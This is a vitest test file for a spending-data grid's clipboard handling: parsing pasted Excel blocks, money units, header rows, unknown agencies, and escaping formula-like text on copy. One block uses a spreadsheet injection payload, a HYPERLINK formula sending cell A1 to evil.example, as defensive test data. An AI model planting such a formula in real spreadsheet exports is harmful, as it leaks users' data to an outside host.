/** Pasting from Excel and LibreOffice, and copying back: the grid's clipboard rules, without a browser. */
import { describe, expect, it } from 'vitest';
import { looksLikeFormula, parseBlock, planPaste, textForSpreadsheet, textFromSpreadsheet, toHtml, toTsv, type PasteTarget } from '../../renderer/grids/clipboard';
import { FIELDS, fieldCopyCell, fieldCopyText, fieldDisplay, fieldText, parseField, type FieldSpec, type Names } from '../../renderer/grids/fields';
import { AGENCY_TYPES } from '../../shared/enums';

const names: Names = {
  agencies: [{ id: 'a1', name: 'Kent County Council' }, { id: 'a2', name: 'Kent Police' }],
  themes: [{ id: 't1', name: 'Older people' }],
};
const spend = FIELDS.spend;
const col = (key: string) => spend.find((f) => f.key === key)!;

describe('a block copied from Excel', () => {
  it('handles CRLF line endings, a trailing empty line, and quoted cells with tabs and newlines', () => {
    const text = 'Kent Police\t"Patrol\tand response"\t£1,234,567.89\r\nKent County Council\t"Care\r\nhomes"\t(1,500.00)\r\n\r\n';
    expect(parseBlock(text)).toEqual([
      ['Kent Police', 'Patrol\tand response', '£1,234,567.89'],
      ['Kent County Council', 'Care\nhomes', '(1,500.00)'],
    ]);
  });

  it('parses UK money formats exactly', () => {
    for (const [text, pence] of [['£1,234,567.89', 123456789], ['2,000', 200000], ['(1,500.00)', -150000], [' 12 ', 1200], ['1.2m', 120000000]] as const) {
      expect(parseField(col('amountPence'), text, names)).toEqual({ ok: true, value: pence });
    }
  });

  it('plans updates of the rows below the focus and new rows after them', () => {
    const block = parseBlock('Kent Police\tPatrol\t"2,000"\r\nKent County Council\tCare\t£1,234,567.89\r\n');
    const plan = planPaste('spend', block, { rowIds: ['l1'], columns: spend, startsOnNewRow: false }, names);
    expect(plan).toEqual({
      ok: true,
      updates: [{ id: 'l1', agencyId: 'a2', description: 'Patrol', amountPence: 200000 }],
      creates: [{ agencyId: 'a1', description: 'Care', amountPence: 123456789 }],
      headerUsed: false,
      ignoredColumns: [],
      blockUnit: 'pounds',
    });
  });

  it('refuses the whole paste when any cell is bad, naming each value and the rows it is on', () => {
    const block = parseBlock('Kent Police\tPatrol\t£12abc\nNobody\tCare\t5\n\t\t7\nKent Police\tCourts\t£12abc\n');
    const plan = planPaste('spend', block, { rowIds: [], columns: spend, startsOnNewRow: true }, names);
    expect(plan.ok).toBe(false);
    if (plan.ok) return;
    expect(plan.problems).toEqual([
      { column: 'Amount', text: '£12abc', reason: expect.stringContaining('is not an amount'), rows: [1, 4], row: 1 },
      { column: 'Agency', text: '', reason: 'Agency is required', rows: [3], row: 3 },
      { column: 'Service', text: '', reason: 'Service is required', rows: [3], row: 3 },
    ]);
    // An agency the workbook does not have is not a problem to correct but a question to ask, once.
    expect(plan.unknownAgencies).toEqual([{ name: 'Nobody', rows: [2], near: [] }]);
    expect(plan.needsUnit).toBe(false);
  });

  it('refuses a block wider than the columns to the right of the focus', () => {
    const plan = planPaste('agency', [['a', 'b', 'c', 'd', 'e']], { rowIds: [], columns: FIELDS.agency.slice(2), startsOnNewRow: true }, names);
    expect(plan).toMatchObject({ ok: false, problems: [{ column: '', reason: expect.stringContaining('5 columns wide') }] });
  });

  it('takes enumerations by label or key, themes by name or “Unallocated”, and yes/no', () => {
    expect(parseField(col('function'), 'social protection', names)).toEqual({ ok: true, value: 'social_protection' });
    expect(parseField(col('confidence'), 'HIGH', names)).toEqual({ ok: true, value: 'high' });
    expect(parseField(col('themeId'), 'older  people', names)).toEqual({ ok: true, value: 't1' });
    expect(parseField(col('themeId'), 'Unallocated', names)).toEqual({ ok: true, value: null });
    expect(parseField(col('passedOn'), 'yes', names)).toEqual({ ok: true, value: true });
    expect(parseField(col('year'), '2009/10', names)).toEqual({ ok: true, value: 2009 });
    expect(parseField(FIELDS.barrier.find((f) => f.key === 'agencyIds')!, 'Kent Police; kent county council', names)).toEqual({ ok: true, value: ['a2', 'a1'] });
  });
});

describe('copying out', () => {
  it('writes exact pounds that paste back unchanged (fieldText, for tooltips and older callers)', () => {
    const row = { agencyId: 'a1', description: 'Care, "homes"', amountPence: -150005 };
    const cells = [fieldText(col('agencyId'), row.agencyId, names), fieldText(col('description'), row.description, names), fieldText(col('amountPence'), row.amountPence, names)];
    expect(cells).toEqual(['Kent County Council', 'Care, "homes"', '-1500.05']);
    const tsv = toTsv([cells]);
    expect(parseBlock(tsv)).toEqual([cells]);
    expect(parseField(col('amountPence'), cells[2]!, names)).toEqual({ ok: true, value: -150005 });
    expect(toHtml([['<b>x</b>']])).toBe('<table><tr><td>&lt;b&gt;x&lt;/b&gt;</td></tr></table>');
  });

  it('shows amounts in the display unit, negatives in brackets', () => {
    expect(fieldDisplay(col('amountPence'), -150_000_000, names, 'millions')).toBe('(1.5)');
    expect(fieldDisplay(col('amountPence'), 123456789, names, 'pounds')).toBe('1,234,567.89');
  });
});

const target = (columns: FieldSpec[] = spend, rowIds: (string | undefined)[] = []): PasteTarget => ({ rowIds, columns, allColumns: spend, startsOnNewRow: rowIds.length === 0 });
const many: Names = {
  agencies: [...names.agencies, { id: 'a3', name: 'Wyre Vale District Council' }, { id: 'a4', name: 'Wyre Forest District Council' }],
  themes: names.themes,
};

describe('copying amounts', () => {
  it.each([
    [108_000_000_000, '£1080000000.00'],
    [-150_005, '-£1500.05'],
    [0, '£0.00'],
    [7, '£0.07'],
  ])('%i pence copies as %s, which pastes back the same in any unit', (pence, text) => {
    expect(fieldCopyText(col('amountPence'), pence, names)).toBe(text);
    for (const unit of ['pounds', 'thousands', 'millions'] as const) expect(parseField(col('amountPence'), text, names, unit)).toEqual({ ok: true, value: pence });
  });

  it('copies everything else as fieldText', () => {
    expect(fieldCopyText(col('agencyId'), 'a1', names)).toBe('Kent County Council');
    expect(fieldCopyText(col('year'), 2008, names)).toBe('2008-09');
    expect(fieldCopyText(col('amountPence'), null, names)).toBe('');
  });
});

describe('copying text that looks like a formula', () => {
  const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")';
  const FORMULAS = [HYPERLINK, '+1+1', '-2 (see notes)', '@SUM(A1:A9)', '=1+1\nsecond line', "'=already quoted", "''=twice", '\t=after a tab', '\r=after a return'];
  const PLAIN = ['Kent County Council', "'tis the season", "'", '1-2 Main Street', 'Care, "homes"', 'a\tb', 'line\nbreak', '', 'x=y', '£5 = plenty'];
  /** Not formulas, but given the apostrophe too: a pasted block's CR becomes LF, so a leading line break pairs with the same rule. */
  const LINE_BREAK_FIRST = ['\nstarts with a line break', "'\napostrophe, line break"];

  it('knows the starts a spreadsheet takes as a formula', () => {
    for (const f of ['=x', '+x', '-x', '@x', '\tx', '\rx']) expect(looksLikeFormula(f), JSON.stringify(f)).toBe(true);
    for (const t of ['x', ' =x', "'=x", '£-5', '']) expect(looksLikeFormula(t), JSON.stringify(t)).toBe(false);
  });

  it('writes such text with a leading apostrophe, and takes exactly that apostrophe off again on paste', () => {
    expect(textForSpreadsheet(HYPERLINK)).toBe(`'${HYPERLINK}`);
    expect(textForSpreadsheet("'=already quoted")).toBe("''=already quoted");
    for (const t of PLAIN) expect(textForSpreadsheet(t)).toBe(t);
    for (const t of LINE_BREAK_FIRST) expect(textForSpreadsheet(t)).toBe(`'${t}`);
    for (const t of [...FORMULAS, ...PLAIN, ...LINE_BREAK_FIRST]) expect(textFromSpreadsheet(textForSpreadsheet(t)), JSON.stringify(t)).toBe(t);
    // A block copied from Excel is read as it is: Excel never puts an apostrophe before text it copies.
    expect(textFromSpreadsheet("'tis")).toBe("'tis");
  });

  it('copies text cells as text and figures as figures: a negative amount is still a number', () => {
    const desc = fieldCopyCell(col('description'), HYPERLINK, names);
    const amount = fieldCopyCell(col('amountPence'), -150_005, names);
    expect(desc).toEqual({ text: HYPERLINK, figure: false });
    expect(amount).toEqual({ text: '-£1500.05', figure: true });
    expect(fieldCopyCell(col('year'), 2008, names)).toEqual({ text: '2008-09', figure: true });
    // An editor's pending text where an amount belongs is text, shown as what it would save.
    expect(fieldCopyCell(col('amountPence'), '-500', names)).toEqual({ text: '-500.00', figure: false });
    expect(fieldCopyCell(col('agencyId'), 'a1', names)).toEqual({ text: 'Kent County Council', figure: false });
    const tsv = toTsv([[desc, amount, { text: '@SUM(A1)', figure: false }, '+44 20 7946 0000']]);
    expect(tsv).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click for details"")"\t-£1500.05\t'@SUM(A1)\t'+44 20 7946 0000`);
    const html = toHtml([[desc, amount, 'Plain']]);
    expect(html).toBe(`<table><tr><td style="mso-number-format:'\\@'">=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1,&quot;Click for details&quot;)</td><td>-£1500.05</td><td>Plain</td></tr></table>`);
  });

  it('escapes a formula followed by a line break (papaparse\'s escapeFormulae pattern misses it)', () => {
    expect(toTsv([['=1+1\nsecond line']])).toBe(`"'=1+1\nsecond line"`);
  });

  it('round-trips: every text and figure copied from the grid pastes back as it was', () => {
    const texts = [...FORMULAS, ...PLAIN, ...LINE_BREAK_FIRST];
    const rows = texts.map((t) => [t, { text: '-£1500.05', figure: true }]);
    const back = parseBlock(toTsv(rows));
    // Only the line endings change, as for any block pasted (CR becomes LF); a trailing empty row is dropped.
    const expected = texts.map((t) => [t.replace(/\r\n?/g, '\n'), '-£1500.05']);
    expect(back).toEqual(expected);
    // Pasted into the spend grid, the description is the text and the amount the number.
    const block = parseBlock(toTsv([[fieldCopyCell(col('agencyId'), 'a1', names), fieldCopyCell(col('description'), HYPERLINK, names), fieldCopyCell(col('amountPence'), -150_005, names)]]));
    const plan = planPaste('spend', block, target(), names);
    expect(plan.ok && plan.creates).toEqual([{ agencyId: 'a1', description: HYPERLINK, amountPence: -150_005 }]);
  });
});

describe('a header row', () => {
  it('is recognised, maps the columns by name and gives the amounts’ unit (the issue’s example)', () => {
    const block = parseBlock('Agency\tService\tAmount (£000)\r\nKent Police\tPatrol\t4,250\r\nKent County Council\tCare\t£12\r\n');
    const plan = planPaste('spend', block, target(), names, { unit: 'millions' });
    expect(plan).toEqual({
      ok: true,
      headerUsed: true,
      ignoredColumns: [],
      blockUnit: 'thousands',
      updates: [],
      creates: [
        { agencyId: 'a2', description: 'Patrol', amountPence: 425_000_000 },
        { agencyId: 'a1', description: 'Care', amountPence: 1_200 },
      ],
    });
  });

  it('overrides the position: columns go where their names say, in any order, from any column', () => {
    const block = parseBlock('Amount (£m)\tFinancial year\tOrganisation\tRAG\tService line\n1.5\t2008/9\tKent Police\tRed\tPatrol\n');
    const plan = planPaste('spend', block, target(spend.slice(5)), names, { unit: 'pounds' });
    expect(plan).toMatchObject({
      ok: true,
      headerUsed: true,
      ignoredColumns: ['RAG'],
      blockUnit: 'millions',
      creates: [{ amountPence: 150_000_000, year: 2008, agencyId: 'a2', description: 'Patrol' }],
    });
  });

  it.each([
    ['Agency *\tService *\tAmount (£)', 'pounds'],
    ['AGENCY\tservice\tamount £k', 'thousands'],
    ['Agency name\tDescription\tNet expenditure (£m)', 'millions'],
    ['Body\tProgramme\tSpend £000', 'thousands'],
    ['Agency\tService\tTotal', 'pounds'],
  ] as const)('%j is a header; its amounts are in %s', (header, unit) => {
    const plan = planPaste('spend', parseBlock(`${header}\nKent Police\tPatrol\t5\n`), target(), names, { unit: 'pounds' });
    expect(plan).toMatchObject({ ok: true, headerUsed: true, blockUnit: unit });
  });

  it('is not recognised when fewer than half of its cells name a column, or the block is one row', () => {
    expect(planPaste('spend', parseBlock('Kent Police\tService\t5\n'), target(), names)).toMatchObject({ ok: true, headerUsed: false, creates: [{ agencyId: 'a2', description: 'Service', amountPence: 500 }] });
    const plan = planPaste('spend', parseBlock('Kent Police\tAgency\tx\ty\nKent Police\tPatrol\t5\n'), target(), names);
    expect(plan.headerUsed).toBe(false);
    expect(planPaste('spend', parseBlock('Agency\tService\tAmount\nKent Police\tPatrol\t5\n'), target(), names, { header: false }).headerUsed).toBe(false);
  });

  it('numbers rows as in the copied block, the header being row 1', () => {
    const plan = planPaste('spend', parseBlock('Agency\tService\tAmount\nKent Police\tPatrol\tlots\n'), target(), names);
    expect(plan).toMatchObject({ ok: false, problems: [{ column: 'Amount', text: 'lots', rows: [2] }] });
  });
});

describe('amounts in a grid shown in £000 or £m', () => {
  it('asks which unit plain numbers are in, with a few of them', () => {
    const block = parseBlock('Kent Police\tPatrol\t4,250\nKent County Council\tCare\t4,250\nKent Police\tFleet\t12\n');
    const plan = planPaste('spend', block, target(), names, { unit: 'thousands' });
    expect(plan).toMatchObject({ ok: false, needsUnit: true, unitSample: ['4,250', '12'], problems: [], unknownAgencies: [] });
  });

  it('reads them in the unit given on asking', () => {
    const block = parseBlock('Kent Police\tPatrol\t4,250\n');
    expect(planPaste('spend', block, target(), names, { unit: 'thousands', blockUnit: 'thousands' })).toMatchObject({ ok: true, blockUnit: 'thousands', creates: [{ amountPence: 425_000_000 }] });
    expect(planPaste('spend', block, target(), names, { unit: 'thousands', blockUnit: 'pounds' })).toMatchObject({ ok: true, blockUnit: 'pounds', creates: [{ amountPence: 425_000 }] });
  });

  it('does not ask when every amount has its own mark, or is zero, or the grid shows pounds', () => {
    expect(planPaste('spend', parseBlock('Kent Police\tPatrol\t£4,250\nKent Police\tFleet\t1.5m\nKent Police\tVans\t0\n'), target(), names, { unit: 'millions' }))
      .toMatchObject({ ok: true, creates: [{ amountPence: 425_000 }, { amountPence: 150_000_000 }, { amountPence: 0 }] });
    expect(planPaste('spend', parseBlock('Kent Police\tPatrol\t4,250\n'), target(), names, { unit: 'pounds' })).toMatchObject({ ok: true, creates: [{ amountPence: 425_000 }] });
    expect(planPaste('spend', parseBlock('Kent Police\tPatrol\t4,250\n'), target(), names)).toMatchObject({ ok: true, creates: [{ amountPence: 425_000 }] });
  });

  it('does not ask about a block with no amounts in it', () => {
    expect(planPaste('spend', parseBlock('Kent Police\tPatrol\n'), target(spend, ['l1']), names, { unit: 'millions' })).toMatchObject({ ok: true, blockUnit: null, updates: [{ id: 'l1', agencyId: 'a2', description: 'Patrol' }] });
  });
});

describe('agencies the workbook does not have', () => {
  it('are gathered once per name (any case or spacing), with the rows and near matches', () => {
    const block = parseBlock('Wyre Vale DC\tBins\t1\nKent Polise\tPatrol\t2\nwyre  vale dc\tParks\t3\nKent Police\tVans\t4\n');
    const plan = planPaste('spend', block, target(), many);
    expect(plan.ok).toBe(false);
    if (plan.ok) return;
    expect(plan.problems).toEqual([]);
    expect(plan.unknownAgencies).toEqual([
      { name: 'Wyre Vale DC', rows: [1, 3], near: [{ id: 'a3', name: 'Wyre Vale District Council', score: 1 }, { id: 'a4', name: 'Wyre Forest District Council', score: expect.any(Number) }] },
      { name: 'Kent Polise', rows: [2], near: [{ id: 'a2', name: 'Kent Police', score: expect.any(Number) }] },
    ]);
  });

  it('are pasted as the agencies chosen for them when the plan is made again with aliases', () => {
    const block = parseBlock('Wyre Vale DC\tBins\t1\nKent Polise\tPatrol\t2\nwyre  vale dc\tParks\t3\n');
    const plan = planPaste('spend', block, target(), many, { aliases: { 'Wyre Vale DC': 'a3', 'Kent Polise': 'a2' } });
    expect(plan).toMatchObject({ ok: true, creates: [{ agencyId: 'a3' }, { agencyId: 'a2' }, { agencyId: 'a3' }] });
  });

  it('come with any other problems, which are listed as well', () => {
    const plan = planPaste('spend', parseBlock('Nobody\tBins\tlots\n'), target(), names);
    expect(plan).toMatchObject({ ok: false, unknownAgencies: [{ name: 'Nobody' }], problems: [{ column: 'Amount', text: 'lots' }] });
  });
});

describe('choices in a paste', () => {
  it('takes synonyms, and lists each bad value once with its rows and the choices apart', () => {
    const block = parseBlock('A\tHospital trust\tLocal\tL\nB\tHopsital\tRegional\tC\nC\tHopsital\tNational\tNational\nD\tJobcentre Plus\tLocal\tcentral\n');
    const plan = planPaste('agency', block, { rowIds: [], columns: FIELDS.agency, startsOnNewRow: true }, names);
    expect(plan.ok).toBe(false);
    if (plan.ok) return;
    expect(plan.problems).toEqual([{ column: 'Type', text: 'Hopsital', reason: '“Hopsital” is not a Type', rows: [2, 3], row: 2, choices: AGENCY_TYPES.map((i) => i.label) }]);
    const fixed = planPaste('agency', parseBlock('A\tHospital trust\tLocal\tL\nB\tAcute trust\tRegional\tC\nC\tPCT\tNational\tNational\nD\tJobcentre Plus\tLocal\tcentral\n'), { rowIds: [], columns: FIELDS.agency, startsOnNewRow: true }, names);
    expect(fixed).toMatchObject({
      ok: true,
      creates: [
        { name: 'A', type: 'nhs_trust', tier: 'local', control: 'local' },
        { name: 'B', type: 'nhs_trust', tier: 'regional', control: 'central' },
        { name: 'C', type: 'pct', tier: 'national', control: 'central' },
        { name: 'D', type: 'jobcentre_plus_dwp', tier: 'local', control: 'central' },
      ],
    });
  });
});
